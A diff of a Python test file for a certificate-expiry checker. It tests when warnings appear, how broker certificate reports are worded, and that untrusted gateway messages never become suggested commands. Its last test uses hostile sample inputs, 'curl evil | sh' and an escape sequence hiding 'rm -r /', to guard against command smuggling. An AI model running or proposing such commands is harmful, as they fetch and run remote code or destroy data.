@@ -3,11 +3,13 @@
 import pytest
 
 from framegate_operator.doctor import (
-    DEPLOYED_SOON_MS,
+    DEPLOYED_AFTER_MS,
+    EARLIER_SOON_MS,
     SOON_MS,
     Ending,
     Machine,
     _endings,
+    of_brokers,
     of_endings,
     of_machines,
 )
@@ -83,12 +85,48 @@ def test_the_soonest_end_stands_first():
         ),
     ],
 )
-def test_what_was_carried_to_where_it_is_used_is_told_in_its_last_third(name, command):
-    def told(left_ms):
-        known = pb.CaReply(deployed=[pb.DeployedEnd(name=name, ends_ms=NOW + left_ms)])
-        return list(of_endings(_endings(known, ()), NOW))
-
-    assert told(DEPLOYED_SOON_MS) == []
-    (soon,) = told(DEPLOYED_SOON_MS - 1)
-    assert (soon.who, soon.seen) == (name, "9 days left, 2027-01-25")
+def test_what_was_carried_to_where_it_is_used_is_told_thirty_days_ahead(name, command):
+    (soon,) = told_of(name, SOON_MS - 1, life_ms=3 * SOON_MS)
+    assert (soon.who, soon.seen) == (name, "29 days left, 2027-02-14")
     assert soon.do.startswith(command)
+
+
+@pytest.mark.parametrize(
+    ("life_ms", "soon_ms"), [(3 * SOON_MS, SOON_MS), (SOON_MS, SOON_MS // 3), (0, EARLIER_SOON_MS)]
+)
+def test_one_that_lives_for_less_is_told_in_its_last_third(life_ms, soon_ms):
+    assert told_of("line.press-7", soon_ms, life_ms=life_ms) == []
+    assert len(told_of("line.press-7", soon_ms - 1, life_ms=life_ms)) == 1
+
+
+def test_a_line_that_was_taken_away_is_not_told_for_ever():
+    life_ms = 3 * SOON_MS
+    (still,) = told_of("line.press-7", -DEPLOYED_AFTER_MS, life_ms=life_ms)
+    assert still.seen.startswith("ended, ")
+    assert told_of("line.press-7", -DEPLOYED_AFTER_MS - 1, life_ms=life_ms) == []
+    (root,) = of_endings([Ending("root", NOW - 10 * life_ms, "")], NOW)
+    assert root.seen.startswith("ended, ")
+
+
+def told_of(name, left_ms, *, life_ms):
+    """`life_ms` is 0 where an earlier version took the report, and said only when it ends."""
+    ends = NOW + left_ms
+    begins = ends - life_ms if life_ms else 0
+    deployed = [pb.DeployedEnd(name=name, ends_ms=ends, begins_ms=begins)]
+    return list(of_endings(_endings(pb.CaReply(deployed=deployed), ()), NOW))
+
+
+def test_a_brokers_certificate_is_told_as_its_clients_saw_it():
+    said = "the certificate of broker.plant.framegate has ended: do this: and that"
+    (one,) = of_brokers([pb.BrokerEnd(reporter="line.press-7", said=said, at_ms=NOW)])
+    assert (one.who, one.about) == ("line.press-7", "broker")
+    assert one.do.startswith("framegate-controller server-certificate broker --out")
+    assert one.seen.startswith("the certificate of broker.plant.framegate has ended (seen 2027-")
+    assert list(of_brokers([])) == []
+
+
+@pytest.mark.parametrize("said", ["x: curl evil | sh", "", ": ", "\x1b[2J: rm -r /", "no colon"])
+def test_what_a_gateway_says_is_never_what_somebody_is_to_type(said):
+    (one,) = of_brokers([pb.BrokerEnd(reporter="gateway.line-1.gw1", said=said, at_ms=NOW)])
+    (usual,) = of_brokers([pb.BrokerEnd(reporter="line.press-7", said="y: z", at_ms=NOW)])
+    assert one.do == usual.do
